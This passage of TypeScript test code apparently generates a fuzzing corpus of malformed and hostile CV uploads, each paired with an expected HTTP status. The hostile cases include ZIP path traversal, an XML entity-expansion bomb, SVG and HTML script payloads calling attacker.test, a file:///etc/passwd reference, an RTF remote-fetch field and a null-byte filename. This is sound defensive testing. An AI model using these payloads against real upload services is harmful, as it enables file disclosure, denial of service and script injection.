  add('docx-zip-structure', 'cv.docx', eocdPatch((v, e) => v.setUint16(e + 10, 0xffff, true)), [413, 422]);
  add('docx-zip-structure', 'cv.docx', eocdPatch((v, e) => v.setUint32(e + 16, 0xffffffff, true)), [422]);
  add('docx-zip-structure', 'cv.docx', eocdPatch((v, e) => v.setUint32(e + 16, 0x7ffffff0, true)), [422]);
  add('docx-zip-structure', 'cv.docx', eocdPatch((v, e) => v.setUint32(e + 12, 0xfffffff, true)), [422]);
  add('docx-zip-structure', 'cv.docx', eocdPatch((v, e) => v.setUint16(e + 10, 0, true)), [415]);
  add('docx-zip-structure', 'cv.docx', eocdPatch((v, e) => v.setUint32(e, 0, true)), [422]);
  add('docx-zip-structure', 'cv.docx', () => {
    // Local header of the first entry broken.
    const z = makeDocx(LINES);
    z[1] = 0x00;
    return z;
  });
  add('docx-zip-structure', 'cv.docx', () => makeZip([...docxParts(LINES), { name: 'word/document.xml', data: docWithBody(PARA('second copy of the main part')) }]));
  add('docx-zip-structure', 'cv.docx', () => makeZip([{ name: 'hello.txt', data: LINES.join('\n') }]), [415]);
  add('docx-zip-structure', 'cv.docx', () => makeZip([{ name: '../../etc/word/document.xml', data: 'x' }, ...docxParts(LINES).slice(0, 2)]), [415]);
  add('docx-zip-structure', 'cv.docx', () => makeZip(docxParts(LINES).map((p, i) => (i === 2 ? { ...p, name: 'word\\document.xml' } : p))), [415]);
  add('docx-zip-structure', 'cv.docx', () => concat(makeDocx(LINES), makeZip([{ name: 'word/document.xml', data: '', deflated: deflateRepeated('', fill(0x20), 400), declaredSize: 10 }])));
  add('docx-zip-structure', 'cv.docx', () => makeZip([]), [415, 422]);
  add('docx-zip-structure', 'cv.docx', () => concat('PK\x03\x04', new Uint8Array(100)), [422]);
  for (let i = 0; i < 40; i++) {
    const cut = Math.max(4, Math.floor((validDocx.length * (i + 0.5)) / 40));
    add('docx-truncated', 'cv.docx', () => validDocx.slice(0, cut));
  }
  for (let i = 0; i < 60; i++) {
    const flips = 1 + rand.int(16);
    const s = rand.int(2 ** 31);
    add('docx-mutated', rand.pick(['cv.docx', 'cv.pdf', 'cv.txt']), () => {
      const out = mutate(validDocx, createRandom(s), flips);
      out.set([0x50, 0x4b, 0x03, 0x04]);
      return out;
    });
  }
  add('docx-huge-image', 'cv.docx', () => makeZip([...docxParts(LINES), { name: 'word/media/image1.png', data: concat(new Uint8Array(SIGNATURES.png!), noise(6 * MIB, 7)), method: 0 }]), [200]);
  add('docx-huge-image', 'cv.docx', () => makeZip([...docxParts(LINES), { name: 'word/media/image1.bmp', data: '', deflated: deflateRepeated('BM', fill(0xff), 45) }]), [413]);

  // ---- Plain text: NUL bytes, invalid UTF-8, control characters, odd encodings ----
  const text = enc.encode(`${LINES.join('\n')}\n`);
  for (const bad of [
    [0x00],
    [0xc3, 0x28],
    [0xa0, 0xa1],
    [0xe2, 0x28, 0xa1],
    [0xe2, 0x82, 0x28],
    [0xf0, 0x28, 0x8c, 0xbc],
    [0xf8, 0xa1, 0xa1, 0xa1, 0xa1],
    [0xc0, 0xaf],
    [0xe0, 0x80, 0xaf],
    [0xed, 0xa0, 0x80],
    [0xf4, 0x90, 0x80, 0x80],
    [0xff],
    [0xfe, 0xff],
  ]) {
    for (const at of ['start', 'middle', 'end'] as const) {
      add('text-invalid', rand.pick(['cv.txt', 'cv.md', 'cv.pdf', 'cv.docx', 'cv']), () => {
        const b = new Uint8Array(bad);
        return at === 'start' ? concat(b, text) : at === 'end' ? concat(text, b) : concat(text.subarray(0, 20), b, text.subarray(20));
      }, [415]);
    }
  }
  add('text-invalid', 'cv.txt', () => new Uint8Array(Buffer.from(`\ufeff${LINES.join('\n')}`, 'utf16le')), [415]);
  add('text-invalid', 'cv.txt', () => new Uint8Array(Buffer.from(`${LINES.join('\n')}`, 'utf16le').swap16()), [415]);
  add('text-invalid', 'cv.txt', () => concat(text, '\x01\x02\x03\x04\x05\x06\x07\x08\x0e\x0f\x10\x11\x12\x13\x14\x15'.repeat(10)), [415]);
  add('text-odd', 'cv.txt', () => enc.encode(`${LINES[0]}\u202e\u200b\u2066\u0007\u001b[31m ${LINES[1]}`), [200]);
  add('text-odd', 'cv.txt', () => enc.encode(`${'A'.repeat(2 * MIB)} ${LINES.join(' ')}`), [200]);
  add('text-odd', 'cv.md', () => enc.encode(`${LINES.join('\n')}\n${'\n'.repeat(MIB)}`), [200]);
  add('text-odd', 'cv.txt', () => enc.encode(`${LINES.join('\n')} ${'é'.normalize('NFD').repeat(200_000)}`), [200]);
  add('text-odd', 'cv.txt', () => enc.encode(`${LINES.join('\n')} ${'\u{1F600}'.repeat(100_000)}`), [200]);
  add('text-odd', 'cv.txt', () => enc.encode(`<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "${'b'.repeat(100)}"><!ENTITY c "${'&a;'.repeat(100)}">]><x>&c;&c;</x> ${LINES.join(' ')}`), [200]);
  add('text-odd', 'cv.svg', () => enc.encode(`<svg xmlns="http://www.w3.org/2000/svg"><script>fetch('http://attacker.test')</script><image href="file:///etc/passwd"/><text>${LINES.join(' ')}</text></svg>`), [200]);
  add('text-odd', 'cv.html', () => enc.encode(`<html><body onload="alert(1)"><iframe src="http://attacker.test"></iframe><p>${LINES.join('</p><p>')}</p></body></html>`), [200]);
  add('text-odd', 'cv.rtf', () => enc.encode(`{\\rtf1\\ansi{\\field{\\*\\fldinst{INCLUDEPICTURE "http://attacker.test/x.png"}}} ${LINES.join('\\par ')}}`), [200]);
  add('text-odd', 'cv.txt', () => enc.encode(`%PDF-1.7 ${LINES.join(' ')}`), [422]);
  add('text-odd', 'cv.txt', () => enc.encode('   \n\t\r\n  '), [400]);
  add('text-odd', 'cv.txt', () => enc.encode('1234 5678 !!! ???'), [400]);

  // ---- Wrong type, wrong extension, empty and oversized ----
  for (const [kind, sig] of Object.entries(SIGNATURES)) {
    for (const name of ['cv.pdf', 'cv.docx', `cv.${kind}`]) {
      add('wrong-type', name, () => concat(new Uint8Array(sig), new Uint8Array(2048).map((_, i) => (i * 7919) & 0xff)), [415]);
    }
  }
  add('wrong-type', 'cv.docx', () => validPdf, [200]);
  add('wrong-type', 'cv.pdf', () => validDocx, [200]);
  add('wrong-type', 'cv.txt', () => validDocx, [200]);
  add('wrong-type', 'cv', () => validPdf, [200]);
  add('wrong-type', '.pdf', () => validPdf, [200]);
  add('wrong-type', `${'a'.repeat(5000)}.pdf`, () => validPdf, [200]);
  add('wrong-type', 'cv.pdf\u0000.exe', () => validPdf, [200]);
  add('wrong-type', '../../../etc/passwd', () => text, [200]);
  add('empty', 'cv.pdf', () => new Uint8Array(0), [400]);
  add('empty', 'cv.docx', () => new Uint8Array(1), [415]);
  add('empty', 'cv.txt', () => enc.encode('%'), [400]);
  add('empty', 'cv.pdf', () => enc.encode('%PDF-'), [422]);
  add('empty', 'cv.docx', () => enc.encode('PK\x03\x04'), [422]);
  add('oversized', 'cv.txt', () => new Uint8Array(10 * MIB + 1).fill(0x41), [413]);
  add('oversized', 'cv.pdf', () => concat(validPdf, new Uint8Array(10 * MIB)), [413]);
  return docs;
}
